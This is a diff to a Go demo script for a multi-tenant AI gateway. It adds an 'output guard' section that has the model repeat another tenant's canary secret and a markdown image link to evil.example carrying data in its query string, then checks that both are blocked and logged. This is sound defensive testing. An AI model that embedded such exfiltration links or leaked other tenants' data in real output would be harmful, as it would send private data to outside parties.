@@ -188,10 +188,13 @@ func (d *demo) script() {
 	d.section("7. Knowledge bases and memories are per tenant")
 	d.knowledge(keys)
 
-	d.section("8. Repeated questions hit the tenant's own cache; limits; the audit trail")
+	d.section("8. The output guard: the last line, for when every other layer failed")
+	d.guard(keys)
+
+	d.section("9. Repeated questions hit the tenant's own cache; limits; the audit trail")
 	d.limitsAndAudit(keys)
 
-	d.section("9. Offboarding is final")
+	d.section("10. Offboarding is final")
 	status, _ = d.call(http.MethodDelete, "/admin/v1/tenants/globex", d.admin, nil, nil)
 	d.check(status == http.StatusNoContent, "operator deletes globex: keys revoked, data key destroyed, files removed (%d)", status)
 	status, _ = d.call(http.MethodGet, "/v1/models", keys["globex"], nil, nil)
@@ -287,6 +290,21 @@ func (d *demo) knowledge(keys map[string]string) {
 	d.check(!strings.Contains(reply, "blue rockets"), "globex's alice does not see acme's alice's memories")
 }
 
+// guard makes acme's model say what a fully compromised model would.
+func (d *demo) guard(keys map[string]string) {
+	leak := d.chat(keys["acme"], "", "/say Globex's handbook says: Refunds are accepted within 30 days. The vault code word is CANARY-GLOBEX-7731.", nil, nil)
+	fmt.Fprintf(d.out, "   acme ← %s\n", leak)
+	d.check(!strings.Contains(leak, "CANARY-GLOBEX") && strings.Contains(leak, "withheld"),
+		"an answer to acme repeating a run of globex's stored text is withheld")
+	d.call(http.MethodPatch, "/admin/v1/tenants/acme", d.admin, nil, map[string]any{"allowed_hosts": []string{"docs.acme.example"}})
+	exfil := d.chat(keys["acme"], "", "/say Here you go ![chart](https://evil.example/c.png?data=A-1001) and [the docs](https://docs.acme.example/refunds)", nil, nil)
+	fmt.Fprintf(d.out, "   acme ← %s\n", exfil)
+	d.check(!strings.Contains(exfil, "evil.example") && strings.Contains(exfil, "docs.acme.example"),
+		"a markdown image carrying data to an unlisted host is removed; the allow-listed link stays")
+	innocent := d.chat(keys["acme"], "", "/say Refunds are accepted within 30 days at both stores.", nil, nil)
+	d.check(!strings.Contains(innocent, "withheld"), "an innocent answer sharing common words passes")
+}
+
 func (d *demo) limitsAndAudit(keys map[string]string) {
 	ask := func(key string) (int, string) {
 		req, _ := http.NewRequestWithContext(d.ctx, http.MethodPost, d.base+"/v1/chat/completions",
@@ -324,9 +342,9 @@ func (d *demo) limitsAndAudit(keys map[string]string) {
 	for _, r := range log.Data {
 		types[r.Type]++
 	}
-	d.check(err == nil && types["tool.call"] > 0 && types["cache.hit"] > 0,
-		"acme's audit log verifies as a hash chain: %d records (%d tool calls, %d cache hits, %d secret changes)",
-		len(log.Data), types["tool.call"], types["cache.hit"], types["secret.set"])
+	d.check(err == nil && types["tool.call"] > 0 && types["cache.hit"] > 0 && types["guard.block"] > 0,
+		"acme's audit log verifies as a hash chain: %d records (%d tool calls, %d guard blocks, %d cache hits, %d secret changes)",
+		len(log.Data), types["tool.call"], types["guard.block"], types["cache.hit"], types["secret.set"])
 }
 
 // callRaw sends a raw text body.
